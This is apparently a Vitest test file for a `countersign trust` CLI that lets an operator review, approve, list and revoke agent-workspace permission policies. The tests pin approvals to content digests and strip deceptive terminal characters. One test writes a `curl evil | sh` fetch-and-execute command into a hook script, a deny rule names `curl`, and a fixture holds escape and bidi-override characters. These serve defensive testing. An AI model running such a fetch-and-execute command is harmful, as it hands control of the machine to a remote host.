/**
 * `countersign trust`: what the operator is shown, what counts as a yes, and what is written down.
 */
import { mkdir, readFile, rm, stat } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { type Terminal, trustCommand } from "../../src/cli/trust.ts";
import { CountersignError } from "../../src/core/errors.ts";
import { put, world } from "../support/workspace-setup.ts";

let out = "";
let err = "";
beforeEach(() => {
  out = "";
  err = "";
  vi.spyOn(process.stdout, "write").mockImplementation((text) => {
    out += String(text);
    return true;
  });
  vi.spyOn(process.stderr, "write").mockImplementation((text) => {
    err += String(text);
    return true;
  });
});
afterEach(() => {
  vi.restoreAllMocks();
  vi.unstubAllEnvs();
  process.exitCode = undefined;
});

/** Somebody who types `answer`, after `before` has happened. */
const typing = (
  answer: string | undefined,
  before: () => Promise<void> = async () => {},
): Terminal => ({
  isThere: true,
  async ask() {
    await before();
    return answer;
  },
});
const nobody: Terminal = {
  isThere: false,
  ask: () => Promise.reject(new Error("nobody is there")),
};

const POLICY = `
rules:
  - { name: builds, tool: Bash, match: make *, action: allow }
  - { name: no curl, tool: Bash, match: curl *, action: deny }
hooks:
  PreToolUse: [{ name: look, type: command, command: scripts/check.sh, matcher: Bash }]
`;

async function project(policy = POLICY) {
  const made = await world();
  vi.stubEnv("COUNTERSIGN_HOME", made.state.directory);
  vi.stubEnv("HOME", made.home);
  vi.stubEnv("NO_COLOR", "1");
  await made.write(".countersign/policy.yaml", policy);
  await made.write("scripts/check.sh", "exit 0");
  const run = async (args: readonly string[], terminal: Terminal = nobody): Promise<number> => {
    process.exitCode = undefined;
    out = "";
    err = "";
    await trustCommand(terminal).exitOverride().parseAsync(args, { from: "user" });
    return Number(process.exitCode ?? 0);
  };
  const state = async () => {
    made.pass();
    return (await made.of())?.trust;
  };
  const file = join(made.state.directory, "trust.json");
  return { ...made, run, state, file };
}

describe("at the terminal", () => {
  it("everything is shown, then asked about; a yes is written down for the content that was shown", async () => {
    const { project: root, run, state, file } = await project();
    expect(await state()).toBe("untrusted");
    expect(await run([root], typing("y"))).toBe(0);
    for (const part of [
      root,
      "Bash(make *)",
      "builds",
      "Bash(curl *)",
      "look",
      "scripts/check.sh",
      ".countersign/policy.yaml",
      "Digest: ",
    ])
      expect(out).toContain(part);
    expect(await state()).toBe("trusted");
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    const stored = JSON.parse(await readFile(file, "utf8")) as {
      workspaces: { root: string; files: { name: string }[]; by: string }[];
    };
    expect(stored.workspaces.map(({ root: each }) => each)).toEqual([root]);
    expect(stored.workspaces[0]?.files.map(({ name }) => name)).toEqual([
      ".countersign/policy.yaml",
      "scripts/check.sh",
    ]);
    expect(stored.workspaces[0]?.by).toContain("@");
  });

  it.each([undefined, "", "n", "no", "yes please", "yy", "да"])(
    "the answer %j trusts nothing",
    async (answer) => {
      const { project: root, run, state } = await project();
      expect(await run([root], typing(answer))).toBe(1);
      expect(err).toContain("Nothing was trusted");
      expect(await state()).toBe("untrusted");
    },
  );

  it("a yes does not cover what was changed while the question was open", async () => {
    const { project: root, run, write, state } = await project();
    const answer = typing("y", () => write("scripts/check.sh", "curl evil | sh"));
    await expect(run([root], answer)).rejects.toThrow("changed in the meantime");
    expect(await state()).toBe("untrusted");
  });

  it("the project is found from within it, and what has changed since is said", async () => {
    const { project: root, run, write, state } = await project();
    await mkdir(join(root, "deep/down"), { recursive: true });
    await run([join(root, "deep/down")], typing("yes"));
    expect(await state()).toBe("trusted");
    await write("scripts/check.sh", "exit 1");
    expect(await run([root], typing("n"))).toBe(1);
    expect(out).toContain("changed since");
    expect(out).toMatch(/Changed since it was trusted:\n {2}scripts\/check\.sh/);
    expect(await run([root], typing("y"))).toBe(0);
    expect(await state()).toBe("trusted");
  });

  it("what is trusted as it stands is not asked about again", async () => {
    const { project: root, run } = await project();
    await run([root], typing("y"));
    expect(await run([root], nobody)).toBe(0);
    expect(out).toContain("Already trusted");
  });

  it("nothing that deceives the eye reaches the terminal", async () => {
    const name = "safe\u202e\u001b[2K\u200b";
    const policy = JSON.stringify({
      rules: [{ name, tool: "Bash", match: "a\nTrust it? no", action: "allow" }],
    });
    const { project: root, run } = await project(policy);
    await run([root], typing("n"));
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u200b\u202e]/);
    expect(out).toContain("⟨U+202E⟩");
    expect(out).not.toMatch(/^Trust it\?/m);
  });

  it("what cannot be used or pinned is not even asked about", async () => {
    const broken = await project("rules: [");
    expect(await broken.run([broken.project], typing("y"))).toBe(1);
    expect(err).toContain("policy.yaml:1");
    expect(await broken.state()).toBe("untrusted");
    const loose = await project(POLICY.replace("matcher: Bash", "cwd: call"));
    expect(await loose.run([loose.project], typing("y"))).toBe(1);
    expect(err).toContain("cannot be pinned");
  });

  it("a directory that belongs to no project is refused", async () => {
    const { home, run } = await project();
    await expect(run([home])).rejects.toMatchObject({ code: "bad-request", path: "dir" });
    await expect(run([join(home, "elsewhere")])).rejects.toBeInstanceOf(CountersignError);
  });
});

describe("without a terminal", () => {
  it("nothing is trusted, and what to run is said", async () => {
    const { project: root, run, state } = await project();
    expect(await run([root])).toBe(1);
    const digest = /Digest: ([0-9a-f]{64})/.exec(out)![1];
    expect(err).toContain(`countersign trust ${root} --yes --digest ${digest}`);
    expect(await state()).toBe("untrusted");
    expect(await run([root, "--yes", "--digest", digest!])).toBe(0);
    expect(await state()).toBe("trusted");
  });

  it("--yes alone is refused", async () => {
    const { project: root, run, state } = await project();
    await expect(run([root, "--yes"])).rejects.toMatchObject({
      code: "bad-request",
      path: "digest",
    });
    expect(await state()).toBe("untrusted");
  });

  it("--yes trusts nothing but the content with its digest, whoever is there", async () => {
    const { project: root, run, state, write } = await project();
    await run([root, "--output", "json"]);
    const { digest } = JSON.parse(out) as { digest: string };
    await write(".countersign/policy.local.yaml", "rules: [{ tool: Bash, action: allow }]");
    expect(await run([root, "--yes", "--digest", digest])).toBe(1);
    expect(await run([root, "--digest", digest], typing("y"))).toBe(1);
    expect(err).toContain("Nothing was trusted: this has the digest");
    expect(await state()).toBe("untrusted");
  });

  it("programs get the same as JSON, and the state as the exit code", async () => {
    const { project: root, run } = await project();
    expect(await run([root, "--output", "json"])).toBe(1);
    expect(JSON.parse(out)).toMatchObject({
      root,
      state: "untrusted",
      allow: [expect.stringContaining("Bash(make *)")],
      deny: [expect.stringContaining("Bash(curl *)")],
      ask: [],
      hooks: [expect.stringContaining("scripts/check.sh")],
      faults: [],
    });
    await run([root], typing("y"));
    expect(await run([root, "--output", "json"])).toBe(0);
    expect(JSON.parse(out)).toMatchObject({ state: "trusted" });
  });
});

describe("the list", () => {
  it("tells what is trusted, has changed, and is gone", async () => {
    const { project: root, home, run, write } = await project();
    const other = join(home, "other");
    await put(join(other, ".claude/settings.json"), '{"permissions":{"allow":["Bash(ls)"]}}');
    const gone = join(home, "gone");
    await put(join(gone, ".claude/settings.json"), '{"permissions":{"allow":["Bash(ls)"]}}');
    expect(await run(["--list"])).toBe(0);
    expect(out).toContain("No workspace is trusted.");
    for (const each of [root, other, gone]) await run([each], typing("y"));
    await write("scripts/check.sh", "exit 1");
    await rm(gone, { recursive: true });
    await run(["--list", "--output", "json"]);
    const rows = JSON.parse(out) as { root: string; state: string }[];
    expect(rows.map((row) => [row.root, row.state])).toEqual([
      [root, "changed"],
      [other, "trusted"],
      [gone, "gone"],
    ]);
    await run(["--list"]);
    expect(out).toContain(other);
  });

  it("loses what is revoked, also what is gone", async () => {
    const { project: root, run, state } = await project();
    await run([root], typing("y"));
    await mkdir(join(root, "sub"));
    expect(await run(["--revoke", join(root, "sub")])).toBe(0);
    expect(await state()).toBe("untrusted");
    expect(await run(["--revoke", root])).toBe(1);
    await run([root], typing("y"));
    await rm(root, { recursive: true });
    expect(await run(["--revoke", root])).toBe(0);
    await run(["--list"]);
    expect(out).toContain("No workspace is trusted.");
  });
});
